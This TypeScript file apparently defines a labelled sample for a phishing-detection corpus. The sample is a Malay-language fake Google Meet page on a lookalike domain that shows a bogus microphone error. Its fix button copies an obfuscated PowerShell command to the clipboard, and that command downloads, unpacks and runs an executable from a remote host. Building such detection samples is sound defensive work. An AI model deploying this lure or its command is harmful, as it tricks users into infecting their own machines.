import { htmlRoute, type Entry } from '../entry.js';
import { b64, codes, doc, jsRoute, wpBlog } from '../parts/zy-kit.js';

export const entries: Entry[] = [
{
  id: 'zy-clickfix-meet-mic-blocked-malay-obf',
  label: 'clickfix',
  kind: 'clickfix-error-lure',
  url: 'https://meet.google-meet-join.com/qkh-ravn-tzb',
  body: doc({
    title: 'Meet - qkh-ravn-tzb',
    lang: 'ms',
    css: `body{margin:0;background:#202124;color:#e8eaed;font-family:"Google Sans",Roboto,Arial}.v{max-width:720px;margin:60px auto;display:flex;gap:40px;align-items:center;padding:0 20px}.cam{flex:1;height:300px;background:#3c4043;border-radius:8px;display:flex;align-items:center;justify-content:center;color:#9aa0a6}
.s{flex:1}.s h2{font-weight:400}.e{position:fixed;left:50%;top:50%;transform:translate(-50%,-50%);background:#fff;color:#202124;width:440px;max-width:94vw;border-radius:8px;padding:24px;box-shadow:0 8px 30px rgba(0,0,0,.5)}
.e h3{margin:0 0 10px;color:#d93025}.e button{background:#1a73e8;color:#fff;border:0;border-radius:4px;padding:10px 22px;font-size:14px;float:right}.e ol{font-size:14px;line-height:1.9}.hide{display:none}`,
    body: `<div class="v"><div class="cam">Kamera dimatikan</div><div class="s"><h2>Sedia untuk menyertai?</h2><p>Mesyuarat Suku Tahunan Jualan Q2 — Wilayah Utara</p><p style="color:#9aa0a6">Tiada orang lain di sini lagi</p></div></div>
<div class="e"><h3>⚠ Mikrofon tidak dapat diakses</h3><p style="font-size:14px">Pelayar anda telah menyekat akses mikrofon dan kamera disebabkan ralat pemacu audio (Ralat 0x8007045D). Klik "Betulkan" untuk membaiki tetapan secara automatik.</p>
<div id="how" class="hide"><ol><li>Tekan <b>Windows + X</b>, kemudian pilih <b>Terminal</b> / <b>Windows PowerShell</b></li><li>Tampal dengan <b>Ctrl + V</b></li><li>Tekan <b>Enter</b> dan kembali ke mesyuarat</li></ol></div>
<button id="fx">Betulkan</button><div style="clear:both"></div></div>
<script>
(function(){var a=[${codes("$u='https://meet-audio-fix.com/drv/';$f=\"$env:TEMP\\AudioFix.zip\";iwr $u'AudioFix.zip' -OutFile $f;Expand-Archive $f \"$env:TEMP\\af\" -Force;Start-Process \"$env:TEMP\\af\\AudioDriverFix.exe\"")}];
document.getElementById("fx").onclick=function(){var s=String.fromCharCode.apply(null,a);navigator.clipboard.writeText("powershell -ep bypass -c \\""+s+"\\"");document.getElementById("how").classList.remove("hide");this.textContent="Telah disalin ✓"};})();
</script>`,
  }),
},
];
